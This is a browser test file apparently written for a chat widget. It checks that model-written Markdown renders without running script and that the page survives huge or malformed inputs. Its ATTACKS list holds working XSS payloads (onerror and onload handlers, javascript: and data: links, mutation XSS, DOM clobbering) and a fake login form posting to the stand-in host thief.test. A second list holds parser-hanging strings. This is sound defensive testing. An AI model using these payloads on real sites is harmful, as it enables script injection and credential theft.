"""What a model writes is shown as a safe subset of Markdown, and harms nothing."""

from playwright.async_api import Dialog, expect

from tests.browser.visits import Visit, Visitors
from tests.support.serving import wait_for
from tests.support.spoken import Spoken

ATTACKS = {
    "an image with a handler": "<img src=x onerror=\"window.hurt = 'img'\">",
    "a script": "<script>window.hurt = 'script'</script>",
    "a vector image": '<svg onload="window.hurt = \'svg\'"><use href="data:image/svg+xml,x"></use></svg>',
    "a frame": "<iframe srcdoc=\"<script>parent.hurt = 'frame'</script>\"></iframe>",
    "a style": '<style>* { display: none !important }</style><b style="position:fixed;inset:0;z-index:99999999999">x</b>',
    "a form": '<form action="http://thief.test"><input name=password><button>Log in</button></form>',
    "a script link": "[click](javascript:window.hurt='link')",
    "a script link in disguise": "[click](JaVaScRiPt&colon;window.hurt='link') [click](\x01java\tscript:window.hurt='tab')",
    "a data link": "[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cub3BlbmVyLmh1cnQ9MTwvc2NyaXB0Pg==)",
    "a link that breaks out": '[click](http://example.com/"onmouseover="window.hurt=1)',
    "an autolink": "<javascript:window.hurt='auto'>",
    "a reference": "[click][1]\n\n[1]: javascript:window.hurt='reference'",
    "an image link": "![x](javascript:window.hurt='image') ![x](http://thief.test/pixel.png)",
    "mutation": "<math><mtext><table><mglyph><style><!--</style><img title=\"--><img src=1 onerror=window.hurt='mxss'>\">",
    "clobbering": "<a id=body name=attributes></a><form id=test><input name=attributes></form>",
}


SLOW = (
    "*a **b " * 14_000,
    "[" * 50_000,
    "[" * 50_000 + "](" * 25_000,
    "> " * 5_000,
    "`" * 99_999 + " x",
    "<" * 90_000,
    "|a" * 50_000,
    "<br" + " " * 90_000 + "x",
    "![" * 50_000,
    "a\n\n" * 30_000,
    "https://example.com/" + "a" * 90_000,
)
FORBIDDEN = ("script", "style", "iframe", "object", "embed", "form", "input", "base", "meta", "img", "math", "[style]")
HANDLERS = """(log) => [...log.querySelectorAll('*')]
  .flatMap((one) => [...one.attributes]).filter(({ name }) => name.startsWith('on')).length"""


async def ask(visit: Visit, spoken: Spoken, answer: str, message: str = "Hello") -> None:
    spoken.say(message, answer, None)
    await visit.chat.say(message)
    await expect(visit.chat.stop_button).to_be_hidden()
    await expect(visit.chat.saying(message)).to_be_visible()


async def harmless(visit: Visit) -> None:
    """Nothing in the log can do anything, and nothing has."""
    log = visit.chat.log
    for link in await log.get_by_role("link").all():
        address = await link.get_attribute("href")
        assert address is not None
        assert address.startswith(("http://", "https://", "mailto:")), address
        await link.hover()
    assert await log.locator(", ".join(FORBIDDEN)).count() == 0
    assert await log.evaluate(HANDLERS) == 0
    assert await visit.page.evaluate("window.hurt") is None
    assert [one.url for one in visit.requests if "thief.test" in one.url] == []


async def attacked(visit: Visit, spoken: Spoken, attack: str, message: str = "Hello") -> None:
    """Gets an answer with an attack in it."""
    spoken.say(message, "Before. ", attack, f"\n\nAfter {message}.", None)
    await visit.chat.say(message)
    await expect(visit.chat.log).to_contain_text(f"After {message}.")
    await expect(visit.chat.stop_button).to_be_hidden()


async def test_an_answer_with_an_attack_harms_nothing(visitors: Visitors, shop: str, spoken: Spoken) -> None:
    visit = await visitors.go(shop)
    dialogs: list[str] = []

    async def dismiss(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        await dialog.dismiss()

    visit.page.on("dialog", dismiss)
    await visit.chat.open()
    for name, attack in ATTACKS.items():
        await attacked(visit, spoken, attack, name)
        await harmless(visit)
        assert await visit.chat.log.evaluate("(log) => log.querySelectorAll('.text').length > 1"), name
    # Again as a transcript.
    await visit.page.reload()
    await visit.chat.reappear()
    await expect(visit.chat.log).to_contain_text(f"After {name}.")
    await harmless(visit)
    assert dialogs == []


async def test_what_the_visitor_writes_stays_text(visitors: Visitors, shop: str, spoken: Spoken) -> None:
    visit = await visitors.go(shop)
    await visit.chat.open()
    written = '<img src=x onerror="window.hurt = 1"> **not bold**'
    spoken.say(written, "I see", None)
    await visit.chat.say(written)
    await expect(visit.chat.saying("I see")).to_be_visible()
    await expect(visit.chat.saying(written)).to_have_count(1)
    assert await visit.page.evaluate("window.hurt") is None


async def test_100_kb_of_text_are_shown_and_the_page_goes_on(visitors: Visitors, shop: str, spoken: Spoken) -> None:
    visit = await visitors.go(shop)
    await visit.chat.open()
    lines = [f"Line {number} of a *very* long answer with `code`, {'w' * 40}." for number in range(1_250)]
    text = "\n\n".join(lines) + "\n\nThe end."
    assert len(text) > 100_000
    spoken.say("Hello", *(text[at : at + 2_000] for at in range(0, len(text), 2_000)), None)
    await visit.chat.say("Hello")
    await expect(visit.chat.saying("The end.")).to_be_visible(timeout=30_000)
    await ask(visit, spoken, "Still here", "And now?")
    await expect(visit.chat.saying("Still here")).to_be_visible()
    wide = await visit.chat.log.evaluate("(log) => log.scrollWidth - log.clientWidth")
    assert wide <= 1, "it does not scroll sideways"


async def test_100_kb_of_marks_are_shown_and_do_not_hang_the_page(visitors: Visitors, shop: str, spoken: Spoken) -> None:
    """Nobody writes such a thing for a reader: all of it is there soon, as it was written, and the page goes on."""
    visit = await visitors.go(shop)
    await visit.chat.open()
    length = "(log) => [...log.querySelectorAll('.text')].at(-1).textContent.replace(/\\s/g, '').length"
    for number, evil in enumerate(SLOW):
        message = f"Question {number}"
        spoken.say(message, evil, None)
        await visit.chat.say(message)
        await spoken.has_started(message)
        await expect(visit.chat.stop_button).to_be_hidden()
        if "> " not in evil:  # those are quotations in quotations
            whole = len("".join(evil.split()))
            what = f"{evil[:20]} is shown whole"
            await wait_for(lambda whole=whole: _is(visit, length, whole), what)
        await visit.chat.begin_anew()
        await expect(visit.chat.saying(message)).to_have_count(0)
    await ask(visit, spoken, "Still here", "And now?")
    await expect(visit.chat.saying("Still here")).to_be_visible()


async def _is(visit: Visit, script: str, wanted: int) -> bool:
    """Whether a script on the log gives a number."""
    found: int = await visit.chat.log.evaluate(script)
    return found == wanted


async def test_a_mark_that_never_ends_hides_no_text(visitors: Visitors, shop: str, spoken: Spoken) -> None:
    visit = await visitors.go(shop)
    await visit.chat.open()
    for number, text in enumerate(("Press [", "Is 1 <", "See [the list", "See [the list](https://exam", "a **b", "5 $")):
        await ask(visit, spoken, text, f"Question {number}")
        shown = text if "**" not in text else "a b"
        await expect(visit.chat.log.locator(".text").last).to_have_text(shown)


async def test_the_newest_letter_is_shown_at_once(visitors: Visitors, shop: str, spoken: Spoken) -> None:
    """The parser keeps it until it has seen the next one, which may be long in coming."""
    visit = await visitors.go(shop)
    await visit.chat.open()
    await visit.chat.say("Hello")
    await spoken.has_started("Hello")
    shown = visit.chat.log.locator(".text").last
    for piece, whole in (
        ("Wait", "Wait"),
        (", wh", "Wait, wh"),
        ("o is th", "Wait, who is th"),
        ("ere?", "Wait, who is there?"),
    ):
        spoken.say("Hello", piece)
        await expect(shown).to_have_text(whole)
    # What may be a mark is not shown before it is known to be none.
    spoken.say("Hello", " It is *")
    await expect(shown).to_have_text("Wait, who is there? It is")
    spoken.say("Hello", "me*", None)
    await expect(shown.locator("em")).to_have_text("me")
    await expect(shown).to_have_text("Wait, who is there? It is me")


async def test_markdown_is_shown(visitors: Visitors, shop: str, spoken: Spoken) -> None:
    visit = await visitors.go(shop)
    await visit.chat.open()
    answer = (
        "## Plants\n\nSome **bold**, *soft* and `code`.\n\n- one\n- two\n\n1. first\n2. second\n\n"
        "> said\n\n```python\nprint('<b>')\n```\n\n[our page](https://example.com/plants)\n\n"
        "| a | b |\n|---|---|\n| 1 | 2 |\n"
    )
    await ask(visit, spoken, answer)
    log = visit.chat.log
    await expect(log.get_by_role("list")).to_have_count(2)
    await expect(log.locator("strong")).to_have_text("bold")
    await expect(log.locator("em")).to_have_text("soft")
    await expect(log.locator("pre")).to_have_text("print('<b>')")
    await expect(log.locator("blockquote")).to_contain_text("said")
    link = log.get_by_role("link", name="our page")
    await expect(link).to_have_attribute("href", "https://example.com/plants")
    await expect(link).to_have_attribute("target", "_blank")
    assert "noopener" in (await link.get_attribute("rel") or "")


async def test_half_a_mark_in_the_middle_of_a_stream_hides_no_text(visitors: Visitors, shop: str, spoken: Spoken) -> None:
    visit = await visitors.go(shop)
    await visit.chat.open()
    await visit.chat.say("Hello")
    await spoken.has_started("Hello")
    spoken.say("Hello", "Take **the blue p")
    await expect(visit.chat.log).to_contain_text("the blue")
    spoken.say("Hello", "ot** now", None)
    await expect(visit.chat.log.locator("strong")).to_have_text("the blue pot")
